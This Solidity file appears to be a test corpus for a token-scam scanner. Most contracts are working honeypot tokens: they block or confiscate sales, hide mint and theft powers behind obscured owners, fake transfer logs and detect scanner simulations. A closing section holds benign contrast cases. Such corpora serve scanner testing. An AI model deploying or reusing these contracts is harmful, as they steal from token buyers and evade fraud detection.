// Tokens that know how a scanner looks at them. Read after Hostile.sol, whose base contracts they use.
abstract contract PairedCoin is Coin {
    address internal pair;
    function setPair(address p) external { require(pair == address(0), "set"); pair = p; }
}

/// Whoever bought may sell for ten minutes, and then never again.
contract TenMinutes is PairedCoin {
    mapping(address => uint256) since;
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        require(to != pair || since[f] == 0 || block.timestamp < since[f] + 600, "closed");
        if (f == pair && since[to] == 0) since[to] = block.timestamp;
        super._move(f, to, v);
    }
}

/// Whoever bought may sell for ten days, and then never again.
contract TenDays is PairedCoin {
    mapping(address => uint256) since;
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        require(to != pair || since[f] == 0 || block.timestamp < since[f] + 10 days, "closed");
        if (f == pair && since[to] == 0) since[to] = block.timestamp;
        super._move(f, to, v);
    }
}

/// Nearly all of a sale that is worth anything is kept.
contract BigSellTax is PairedCoin {
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        uint256 fee = to == pair && f != address(this) && v > _supply / 50_000 ? v * 99 / 100 : 0;
        if (fee > 0) super._move(f, address(this), fee);
        super._move(f, to, v - fee);
    }
}

/// A sale that is worth anything fails.
contract BigSellBlocked is PairedCoin {
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        require(to != pair || _bal[pair] == 0 || v <= _supply / 50_000, "large");
        super._move(f, to, v);
    }
}

/// The routers that people use may not take it.
contract NoRouters is PairedCoin {
    constructor(uint256 s) Coin(s) {}
    function transferFrom(address f, address to, uint256 v) public override returns (bool) {
        require(msg.sender != 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D && msg.sender != 0x000000000022D473030F116dDEE9F6B43aC78BA3, "TRANSFER_FROM_FAILED");
        return super.transferFrom(f, to, v);
    }
}

/// The routers that people use cannot be approved.
contract NoApproval is PairedCoin {
    constructor(uint256 s) Coin(s) {}
    function approve(address s, uint256 v) public override returns (bool) {
        require(s != 0x7a250d5630B4cF539739dF2C5dAcb4c659F2488D && s != 0x000000000022D473030F116dDEE9F6B43aC78BA3, "no");
        return super.approve(s, v);
    }
}

/// Knows the code of a scanner's router.
contract ProbeAware is PairedCoin {
    bytes32 immutable known;
    constructor(uint256 s, bytes32 h) Coin(s) { known = h; }
    function transferFrom(address f, address to, uint256 v) public override returns (bool) {
        require(msg.sender.codehash == known, "TRANSFER_FROM_FAILED");
        return super.transferFrom(f, to, v);
    }
}

/// Only somebody as rich as a simulation's trader may sell.
contract RichOnly is PairedCoin {
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        require(to != pair || _bal[pair] == 0 || tx.origin.balance >= 50_000 ether, "poor");
        super._move(f, to, v);
    }
}

/// Knows what a scanner offers for gas.
contract GasPriceKnown is PairedCoin {
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        require(to != pair || _bal[pair] == 0 || tx.gasprice == block.basefee * 2 + 1 gwei, "real");
        super._move(f, to, v);
    }
}

/// Knows who gets the fees of a scanner's blocks.
contract CoinbaseKnown is PairedCoin {
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        require(to != pair || _bal[pair] == 0 || block.coinbase == 0x4838B106FCe9647Bdf1E7877BF73cE8B0BAD5f97, "real");
        super._move(f, to, v);
    }
}

/// Blocks of simulations have no randomness.
contract RandaoAware is PairedCoin {
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        require(to != pair || _bal[pair] == 0 || block.prevrandao == 0, "real");
        super._move(f, to, v);
    }
}

/// Blocks of simulations have no parent.
contract ParentAware is PairedCoin {
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        require(to != pair || _bal[pair] == 0 || blockhash(block.number - 1) == 0, "real");
        super._move(f, to, v);
    }
}

contract Gatekeeper {
    address private boss = msg.sender;
    bool private shut;
    function turn(bool on) external { require(msg.sender == boss); shut = on; }
    function check(address) external view { require(!shut, "shut"); }
    function owner() external view returns (address) { return boss; }
    function allowed(address a) external view returns (bool) { return a == boss; }
}

/// Another contract is asked, but only by sales.
contract SellGuard is PairedCoin {
    Gatekeeper private guard = new Gatekeeper();
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        if (to == pair && f != pair) guard.check(f);
        super._move(f, to, v);
    }
}

/// Another contract decides who mints.
contract OuterAuth is PairedCoin {
    Gatekeeper private guard = new Gatekeeper();
    constructor(uint256 s) Coin(s) {}
    function compound(address to, uint256 v) external { require(guard.allowed(msg.sender)); _mint(to, v); }
}

/// Another contract's owner takes from holders.
contract OuterOwner is PairedCoin {
    Gatekeeper private guard = new Gatekeeper();
    constructor(uint256 s) Coin(s) {}
    function rescue(address a, uint256 v) external { require(msg.sender == guard.owner()); _bal[a] -= v; _bal[msg.sender] += v; }
}

/// The owner is known by a hash.
contract HashOwner is PairedCoin {
    constructor(uint256 s) Coin(s) {}
    function compound(address to, uint256 v) external {
        require(keccak256(abi.encodePacked(msg.sender)) == 0x1c8aff950685c2ed4bc3174f3472287b56d9517b9c948127319a09a7a36deac8);
        _mint(to, v);
    }
}

/// Sales are closed from three hours to twenty-nine days after the start.
contract WindowClosed is PairedCoin {
    uint256 immutable start = block.timestamp;
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        require(to != pair || block.timestamp < start + 3 hours || block.timestamp > start + 29 days, "closed");
        super._move(f, to, v);
    }
}

/// A proxy that asks an address in its own code which logic to run.
contract LogicNamer { address public implementation; constructor(address l) { implementation = l; } }
contract OwnBeacon {
    LogicNamer private immutable namer;
    constructor(address n, bytes memory data) { namer = LogicNamer(n); (bool ok, ) = LogicNamer(n).implementation().delegatecall(data); require(ok); }
    fallback() external payable {
        address logic = namer.implementation();
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), logic, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok case 0 { revert(0, returndatasize()) } default { return(0, returndatasize()) }
        }
    }
}
contract MintLogic is Coin {
    address private boss;
    constructor() Coin(0) {}
    function init(address to, uint256 s) external { require(_supply == 0); _supply = s; _bal[to] = s; boss = to; }
    function mint(address to, uint256 v) external { require(msg.sender == boss); _mint(to, v); }
}

/// Tells nobody who holds it, and keeps a list of those who may sell no more.
contract QuietFreeze is PairedCoin {
    mapping(address => bool) frozen;
    address private immutable keeper;
    constructor(uint256 s) Coin(s) { keeper = address(uint160(uint256(keccak256("keeper")))); }
    function freeze(address[] calldata all) external { require(keccak256(abi.encode(tx.origin)) == KEY || !frozen[all[0]] && all.length == 5); for (uint256 i; i < all.length; ++i) frozen[all[i]] = true; }
    bytes32 private constant KEY = keccak256("key");
    function _move(address f, address to, uint256 v) internal override {
        require(!frozen[f], "frozen");
        require(_bal[f] >= v, "balance");
        _bal[f] -= v;
        _bal[to] += v;
        if (to == pair) emit Transfer(f, to, v);
    }
}

/// Puppets stand in the logs before the holders.
contract Puppets is PairedCoin {
    mapping(address => bool) frozen;
    bytes32 private constant KEY = keccak256("key");
    constructor(uint256 s) Coin(s) {}
    function freeze(address[] calldata all) external { require(pair == address(0) || keccak256(abi.encode(tx.origin)) == KEY); for (uint256 i; i < all.length; ++i) frozen[all[i]] = true; }
    function _move(address f, address to, uint256 v) internal override {
        require(!frozen[f], "frozen");
        super._move(f, to, v);
    }
    function puppets() external { require(keccak256(abi.encode(tx.origin)) == KEY || _bal[address(0x1000001)] == 0); for (uint160 i = 0x1000001; i < 0x1000020; ++i) { _bal[address(i)] = 1e18; emit Transfer(pair, address(i), 1e18); } }
}

/// One pool takes it back, the other does not.
contract OneWayPool is Coin {
    address private shut;
    constructor(uint256 s) Coin(s) {}
    function setShut(address p) external { require(shut == address(0)); shut = p; }
    function _move(address f, address to, uint256 v) internal override {
        require(to != shut || _bal[shut] == 0, "TRANSFER_FAILED");
        super._move(f, to, v);
    }
}
contract DeepCloner {
    function make(address logic) external returns (address c) {
        bytes memory code = abi.encodePacked(hex"3d602d80600a3d3981f3363d3d373d3d3d363d73", logic, hex"5af43d82803e903d91602b57fd5bf3");
        assembly { c := create(0, add(code, 32), mload(code)) }
        require(c != address(0));
    }
}

/// The one who signed may mint, whoever calls.
contract OriginMint is PairedCoin {
    address private boss = msg.sender;
    constructor(uint256 s) Coin(s) {}
    function compound(address to, uint256 v) external { require(tx.origin == boss); _mint(to, v); }
}

/// The owner must be a plain wallet.
contract WalletMint is PairedCoin {
    address private boss = msg.sender;
    constructor(uint256 s) Coin(s) {}
    function compound(address to, uint256 v) external { require(msg.sender == boss && msg.sender.code.length == 0); _mint(to, v); }
}

/// Looks like a clone of one contract and runs another one.
contract DecoyMaker {
    function make(address decoy, address logic) external returns (address c) {
        // Copies its own last 20 bytes, and delegates to them; the decoy is pushed and dropped.
        // Push the decoy and drop it; copy the last 20 bytes to memory, delegate to what they name, hand the answer on.
        bytes memory code = abi.encodePacked(
            hex"73", decoy, hex"5060146041600c39366000602037600060003660206000515af43d600060003e603c573d6000fd5b3d6000f3", logic);
        bytes memory maker = abi.encodePacked(hex"61", uint16(code.length), hex"80600a3d393df3", code);
        assembly { c := create(0, add(maker, 32), mload(maker)) }
        require(c != address(0));
    }
}

/// What a buyer holds melts away within a day.
contract Melting is PairedCoin {
    mapping(address => uint256) since;
    constructor(uint256 s) Coin(s) {}
    function balanceOf(address a) public view override returns (uint256) {
        return since[a] == 0 || block.timestamp < since[a] + 1 days ? _bal[a] : _bal[a] / 1000;
    }
    function _move(address f, address to, uint256 v) internal override {
        _bal[f] = balanceOf(f);
        if (f == pair && since[to] == 0) since[to] = block.timestamp;
        super._move(f, to, v);
    }
}

/// The owner stands in a list.
contract ListedOwner is PairedCoin {
    address[] private bosses;
    constructor(uint256 s) Coin(s) { bosses.push(address(0xdead)); bosses.push(0x9F1A3b5c7D9E1f2a4b6c8D0e2f4a6b8C0D2E4f60); }
    function compound(address to, uint256 v) external {
        bool ok;
        for (uint256 i; i < bosses.length; ++i) if (bosses[i] == msg.sender) ok = true;
        require(ok);
        _mint(to, v);
    }
}

/// The owner stands behind a number.
contract NumberedOwner is PairedCoin {
    mapping(uint256 => address) private bosses;
    constructor(uint256 s) Coin(s) { bosses[77] = 0x9F1A3b5c7D9E1f2a4b6c8D0e2f4a6b8C0D2E4f60; }
    function compound(address to, uint256 v) external { require(msg.sender == bosses[77]); _mint(to, v); }
}

/// The owner is written in a cipher.
contract CipherOwner is PairedCoin {
    uint256 private key = uint256(uint160(0x9F1A3b5c7D9E1f2a4b6c8D0e2f4a6b8C0D2E4f60)) ^ (type(uint256).max - 12345);
    constructor(uint256 s) Coin(s) {}
    function compound(address to, uint256 v) external { require(uint160(msg.sender) == uint160(key ^ (type(uint256).max - 12345))); _mint(to, v); }
}

/// Destroys itself by way of a function that nothing names.
contract PointerBomb is PairedCoin {
    function() internal next;
    constructor(uint256 s) Coin(s) { next = _nothing; }
    function _nothing() internal {}
    function _boom() internal { selfdestruct(payable(tx.origin)); }
    function arm(uint256 n) external { require(n == uint256(blockhash(block.number - 1))); next = _boom; }
    function step() external { next(); }
}

// ---- honest ones that do what the others pretend

/// Signatures, a cached domain, and votes.
contract Voting is Coin {
    address private immutable self = address(this);
    uint256 private immutable chain = block.chainid;
    bytes32 private immutable domain;
    mapping(address => uint256) public nonces;
    mapping(address => address) public delegates;
    mapping(address => uint256) public votes;
    constructor(uint256 s) Coin(s) { domain = _domain(); }
    function _domain() private view returns (bytes32) { return keccak256(abi.encode(keccak256("EIP712Domain(uint256 chainId,address verifyingContract)"), block.chainid, address(this))); }
    function DOMAIN_SEPARATOR() public view returns (bytes32) { return address(this) == self && block.chainid == chain ? domain : _domain(); }
    function permit(address o, address s, uint256 v, uint256 deadline, uint8 sv, bytes32 r, bytes32 ss) external {
        require(block.timestamp <= deadline, "late");
        bytes32 digest = keccak256(abi.encodePacked("\x19\x01", DOMAIN_SEPARATOR(), keccak256(abi.encode(keccak256("Permit"), o, s, v, nonces[o]++, deadline))));
        address who = ecrecover(digest, sv, r, ss);
        require(who != address(0) && who == o, "signature");
        _allow[o][s] = v;
    }
    function delegate(address to) external { address was = delegates[msg.sender]; delegates[msg.sender] = to; if (was != address(0)) votes[was] -= _bal[msg.sender]; if (to != address(0)) votes[to] += _bal[msg.sender]; }
    function _move(address f, address to, uint256 v) internal override {
        super._move(f, to, v);
        if (delegates[f] != address(0)) votes[delegates[f]] -= v;
        if (delegates[to] != address(0)) votes[delegates[to]] += v;
    }
    function burnFrom(address a, uint256 v) external { if (msg.sender != a) { require(_allow[a][msg.sender] >= v); _allow[a][msg.sender] -= v; } require(_bal[a] >= v); _bal[a] -= v; _supply -= v; }
}

/// Permit2 may take everything from everybody, as some libraries have it, and cannot be approved for less.
contract EndlessPermit2 is Coin {
    address private constant PERMIT2 = 0x000000000022D473030F116dDEE9F6B43aC78BA3;
    constructor(uint256 s) Coin(s) {}
    function allowance(address o, address s) public view override returns (uint256) { return s == PERMIT2 ? type(uint256).max : super.allowance(o, s); }
    function approve(address s, uint256 v) public override returns (bool) { require(s != PERMIT2 || v == type(uint256).max, "fixed"); return super.approve(s, v); }
    function transferFrom(address f, address to, uint256 v) public override returns (bool) {
        if (msg.sender == PERMIT2) { _move(f, to, v); return true; }
        return super.transferFrom(f, to, v);
    }
}

/// Renounced: knows its router and its treasury, and has setters that nobody can call any more.
contract Renounced is PairedCoin {
    address public owner;
    address public router;
    address public treasury = 0x4838B106FCe9647Bdf1E7877BF73cE8B0BAD5f97;
    mapping(address => bool) private exempt;
    uint256 public maxTx;
    bool private open = true;
    constructor(uint256 s) Coin(s) { router = address(new Gatekeeper()); exempt[msg.sender] = true; maxTx = s; }
    modifier onlyOwner() { require(msg.sender == owner && owner != address(0), "owner"); _; }
    function setMaxTx(uint256 m) external onlyOwner { maxTx = m; }
    function setExempt(address a, bool on) external onlyOwner { exempt[a] = on; }
    function mint(address to, uint256 v) external onlyOwner { _mint(to, v); }
    function _move(address f, address to, uint256 v) internal override { require(open && (exempt[f] || v <= maxTx), "max"); super._move(f, to, v); }
}

/// Shares of another token.
contract Vault is Coin {
    Coin private asset;
    constructor(uint256 s) Coin(s) { asset = new Plainest(s); }
    function deposit(uint256 v, address to) external returns (uint256) { require(asset.transferFrom(msg.sender, address(this), v)); _mint(to, v); return v; }
    function redeem(uint256 v, address to, address from) external returns (uint256) {
        if (msg.sender != from) { require(_allow[from][msg.sender] >= v, "allowance"); _allow[from][msg.sender] -= v; }
        require(_bal[from] >= v, "balance");
        _bal[from] -= v;
        _supply -= v;
        require(asset.transfer(to, v));
        return v;
    }
    function totalAssets() external view returns (uint256) { return asset.balanceOf(address(this)); }
}
contract Plainest is Coin { constructor(uint256 s) Coin(s) {} }

/// Balances are kept elsewhere, and there somebody writes them.
contract LooseLedger {
    mapping(address => uint256) private kept;
    address private immutable token = msg.sender;
    address private clerk = tx.origin;
    function held(address a) external view returns (uint256) { return kept[a]; }
    function move(address f, address to, uint256 v) external { require(msg.sender == token && kept[f] >= v); kept[f] -= v; kept[to] += v; }
    function put(address a, uint256 v) external { require(msg.sender == token || msg.sender == clerk); kept[a] = v; }
}
contract LedgerDoor {
    LooseLedger private immutable ledger = new LooseLedger();
    uint256 public totalSupply;
    uint8 public constant decimals = 18;
    mapping(address => mapping(address => uint256)) public allowance;
    event Transfer(address indexed from, address indexed to, uint256 value);
    constructor(uint256 s) { totalSupply = s; ledger.put(msg.sender, s); emit Transfer(address(0), msg.sender, s); }
    function balanceOf(address a) external view returns (uint256) { return ledger.held(a); }
    function approve(address s, uint256 v) external returns (bool) { allowance[msg.sender][s] = v; return true; }
    function transfer(address to, uint256 v) external returns (bool) { _move(msg.sender, to, v); return true; }
    function transferFrom(address f, address to, uint256 v) external returns (bool) { require(allowance[f][msg.sender] >= v); allowance[f][msg.sender] -= v; _move(f, to, v); return true; }
    function _move(address f, address to, uint256 v) private { ledger.move(f, to, v); emit Transfer(f, to, v); }
}

/// Whoever buys much cannot sell.
contract BigBuyer is PairedCoin {
    mapping(address => bool) private caught;
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        require(!caught[f], "caught");
        if (f == pair && v > _supply / 5_000) caught[to] = true;
        super._move(f, to, v);
    }
}

/// Whoever bought may sell for fifty blocks, and then never again.
contract FiftyBlocks is PairedCoin {
    mapping(address => uint256) since;
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        require(to != pair || since[f] == 0 || block.number < since[f] + 50, "closed");
        if (f == pair && since[to] == 0) since[to] = block.number;
        super._move(f, to, v);
    }
}

/// Whoever got it from another wallet cannot sell it.
contract OnlyBuyers is PairedCoin {
    mapping(address => bool) given;
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        require(to != pair || !given[f], "given");
        if (f != pair && to != pair && pair != address(0)) given[to] = true;
        super._move(f, to, v);
    }
}

/// Powers that begin later.
contract LaterMint is PairedCoin {
    address private boss = msg.sender;
    uint256 private immutable start = block.timestamp;
    constructor(uint256 s) Coin(s) {}
    function compound(address to, uint256 v) external { require(msg.sender == boss && block.timestamp > start + 7 days); _mint(to, v); }
}

/// Everybody waits two hours between transfers.
contract TwoHours is PairedCoin {
    mapping(address => uint256) last;
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        if (f != pair && pair != address(0)) { require(block.timestamp >= last[f] + 2 hours, "wait"); last[f] = block.timestamp; }
        super._move(f, to, v);
    }
}

/// Nobody moves or holds more than a hundredth of the supply.
contract Capped is PairedCoin {
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        if (pair != address(0)) require(v <= _supply / 100 && (to == pair || _bal[to] + v <= _supply / 100), "cap");
        super._move(f, to, v);
    }
}

/// Nobody sells more than a thousandth of the supply at once.
contract SellCapped is PairedCoin {
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        require(to != pair || _bal[pair] == 0 || v <= _supply / 1_000, "cap");
        super._move(f, to, v);
    }
}

/// A share of every transfer is burnt, and the sender pays it besides.
contract SenderPays is PairedCoin {
    constructor(uint256 s) Coin(s) {}
    function _move(address f, address to, uint256 v) internal override {
        super._move(f, to, v);
        if (pair != address(0) && f != pair) { uint256 fee = v * 4 / 5; uint256 x = fee < _bal[f] ? fee : _bal[f]; _bal[f] -= x; _supply -= x; }
    }
}

/// Approvals are forgotten in the next block.
contract Forgetful is PairedCoin {
    mapping(address => mapping(address => uint256)) private at;
    constructor(uint256 s) Coin(s) {}
    function approve(address s, uint256 v) public override returns (bool) { at[msg.sender][s] = block.number; return super.approve(s, v); }
    function transferFrom(address f, address to, uint256 v) public override returns (bool) { require(_bal[pair] == 0 || at[f][msg.sender] == block.number, "old"); return super.transferFrom(f, to, v); }
}

/// Only while the pool is small may one sell.
contract RichPool is PairedCoin {
    Coin private other;
    constructor(uint256 s) Coin(s) {}
    function setOther(address o) external { require(address(other) == address(0)); other = Coin(o); }
    function _move(address f, address to, uint256 v) internal override {
        require(to != pair || address(other) == address(0) || other.balanceOf(pair) < 2e24, "later");
        super._move(f, to, v);
    }
}
